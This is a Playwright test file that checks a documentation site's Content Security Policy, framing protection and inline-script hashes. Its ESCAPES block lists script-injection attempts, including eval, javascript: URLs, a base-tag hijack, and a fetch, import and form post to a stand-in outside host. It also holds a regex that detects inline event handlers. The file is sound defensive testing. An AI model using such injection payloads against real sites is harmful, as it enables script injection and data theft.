"""Under its policy the site does all it does, and what is none of its own does nothing."""

from __future__ import annotations

import re
import threading
import time
from base64 import b64encode
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from browsing import Window, Windows
from edited_demo import open_demo
from playwright.sync_api import Route, expect
from tag_recorder import Recorder

from tearsheet.output.manifest import load_manifest

pytest_plugins = ["real_site", "leaflet_site", "ferry_site", "measured_site"]

BUTTON = "/material-ui/react-button/"
STRANGER = "https://stranger.example"

KINDS = {
    "demos in frames": "/material-ui/react-drawer/",
    "a reference": "/material-ui/api/button/",
    "the blog": "/blog/",
    "an error": "/production-error/?code=152&args[]=Button",
    "a page that is not there": "/nothing/",
    "the icons": "/material-ui/material-icons/",
    "the colors": "/material-ui/customization/color/",
    "the theme": "/material-ui/customization/default-theme/",
    "a playground for themes": "/material-ui/customization/theming/",
}
"""Those at which `test_every_page.py` does not look: what is refused is a trouble there."""

SCRIPT = re.compile(r"<script([^>]*)>(.*?)</script>", re.DOTALL)
# An image of a demo may be data: nothing in it runs.
ACTS = re.compile(
    r"""<[a-z][^>]*?\s(?:on[a-z]+=|(?:href|src|action)="javascript:)"""
    r"""|<(?!img\s)[a-z][^>]*?\s(?:href|src|action)="data:"""
)

FRAME = """(address) => new Promise((done) => {
  const frame = document.createElement('iframe');
  Object.assign(frame, { src: address, onload: done });
  document.body.append(frame);
})"""

ESCAPES = """async (stranger) => {
  const ran = [];
  window.note = (name) => ran.push(name);
  const tries = {
    inline: () => {
      const script = document.createElement('script');
      script.textContent = "note('inline')";
      document.body.append(script);
    },
    handler: () => {
      const link = document.createElement('a');
      link.setAttribute('onclick', "note('handler')");
      document.body.append(link);
      link.click();
    },
    address: () => {
      const link = document.createElement('a');
      link.href = "javascript:note('address')";
      document.body.append(link);
      link.click();
    },
    foreign: () => import(`${stranger}/x.js`).then(() => note('foreign')),
    text: () => (0, eval)("note('text')"),
    data: () => import("data:text/javascript,note('data')"),
    sent: () => fetch(`${stranger}/`, { mode: 'no-cors' }).then(() => note('sent')),
    picture: () => new Promise((done, fail) => {
      const picture = new Image();
      Object.assign(picture, { onload: done, onerror: fail, src: `${stranger}/x.png` });
    }).then(() => note('picture')),
    base: () => {
      document.head.append(Object.assign(document.createElement('base'), { href: stranger }));
      if (document.baseURI.startsWith(stranger)) note('base');
    },
    form: () => {
      const form = document.createElement('form');
      Object.assign(form, { action: stranger, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  };
  for (const attempt of Object.values(tries)) {
    try {
      await attempt();
    } catch {}
  }
  await new Promise((tick) => setTimeout(tick, 200));
  return ran;
}"""


@pytest.fixture
def workers() -> Iterator[str]:
    """The address of another site, whose page may hold any frame."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!DOCTYPE html><title>Elsewhere</title>")

        def log_message(self, *_: object) -> None:
            """Tests have enough to say."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


@contextmanager
def refused_aloud(windows: Windows) -> Iterator[list[str]]:
    """What is refused meanwhile, as it should be."""
    yield windows.refused
    windows.refused.clear()


@contextmanager
def strangers(window: Window) -> Iterator[list[str]]:
    """What of another site was reached meanwhile."""
    reached: list[str] = []

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="note('foreign')", content_type="text/javascript")

    window.page.context.route(f"{STRANGER}/**", answer)
    yield reached


@pytest.mark.parametrize("path", KINDS.values(), ids=KINDS.keys())
def test_a_page_of_each_kind_is_refused_nothing(windows: Windows, path: str) -> None:
    window = windows.open(path)

    window.bring_to_life()
    window.page.mouse.wheel(0, 20_000)
    window.page.wait_for_load_state("networkidle")

    assert windows.refused == []


def test_what_opens_on_a_page_is_refused_nothing(windows: Windows) -> None:
    window = windows.open(BUTTON)

    window.page.keyboard.press("Control+k")
    search = window.page.get_by_role("dialog")
    search.get_by_role("combobox").fill("slider")
    expect(search.get_by_role("option").first).to_be_visible()
    window.page.keyboard.press("Escape")
    window.page.get_by_role("button", name="Settings").click()
    settings = window.page.get_by_role("dialog")
    expect(settings).to_be_visible()
    settings.get_by_text("Dark", exact=True).click()
    expect(window.page.locator("html")).to_have_attribute("data-scheme", "dark")

    assert windows.refused == []


def test_a_demo_is_edited_and_nothing_is_refused(ferry: Windows) -> None:
    demo = open_demo(ferry, "Ticket")

    demo.edit(before=">Pay")
    demo.type(" for Ada")

    expect(demo.frame.get_by_role("button", name="Pay for Ada")).to_be_visible()
    assert ferry.refused == []


def test_opened_by_itself_the_frame_of_edited_demos_has_no_origin(ferry: Windows) -> None:
    window = ferry.open("/frames/editing/")

    assert window.evaluate("origin") == "null"


def test_measuring_is_refused_nothing(
    visit: Callable[..., Windows], measured: Path, recorder: Recorder
) -> None:
    windows = visit(measured)
    windows.open("/guides/")

    recorder.until(lambda: len(recorder.events("page_view")) == 1)

    assert windows.refused == []


def test_a_page_is_fetched_ahead_by_the_rules(windows: Windows) -> None:
    window = windows.open()
    ready: list[str] = []
    session = window.page.context.new_cdp_session(window.page)
    session.on(
        "Preload.prefetchStatusUpdated",
        lambda told: ready.append(told["prefetchUrl"]) if told["status"] == "Ready" else None,
    )
    session.send("Preload.enable")
    window.visit(BUTTON)

    link = window.page.locator("main a[href^='/material-ui/customization/']").first
    link.hover()

    address = f"{window.address}{link.get_attribute('href')}"
    end = time.monotonic() + 10
    while address not in ready:
        assert time.monotonic() < end, f"never fetched; what was: {ready}"
        window.page.wait_for_timeout(50)
    assert windows.refused == []


def test_what_is_not_the_sites_own_does_nothing(windows: Windows) -> None:
    window = windows.open(BUTTON)

    with refused_aloud(windows) as refused, strangers(window) as reached:
        ran = window.page.evaluate(ESCAPES, STRANGER)

        assert ran == []
        assert reached == []
        assert len(refused) >= 8
    assert window.page.url == f"{window.address}{BUTTON}"


def test_no_other_site_frames_a_page(windows: Windows, workers: str) -> None:
    window = windows.open()
    window.page.goto(workers)

    with refused_aloud(windows):
        for path in ("/robots.txt", BUTTON, "/frames/editing/"):
            window.page.evaluate(FRAME, f"{window.address}{path}")

    framed = [frame.url for frame in window.page.frames[1:]]
    # A file that is no document shows that it is the policy which keeps the others out.
    assert framed[0] == f"{window.address}/robots.txt"
    assert not any(url.startswith(window.address) for url in framed[1:])


def test_no_page_holds_a_script_the_policy_does_not_name(built_site: Path) -> None:
    policies = load_manifest(built_site).policies
    assert policies
    running: set[str] = set()
    acting: list[str] = []

    for file in built_site.rglob("*.html"):
        html = file.read_text(encoding="utf-8")
        without = SCRIPT.sub("", html)
        acting += [f"{file.relative_to(built_site)}: {found}" for found in ACTS.findall(without)]
        running |= {
            text
            for told, text in SCRIPT.findall(html)
            if "src=" not in told and 'type="application/' not in told
        }

    assert acting == []
    assert 1 <= len(running) <= 2
    for script in running:
        digest = b64encode(sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policies.page
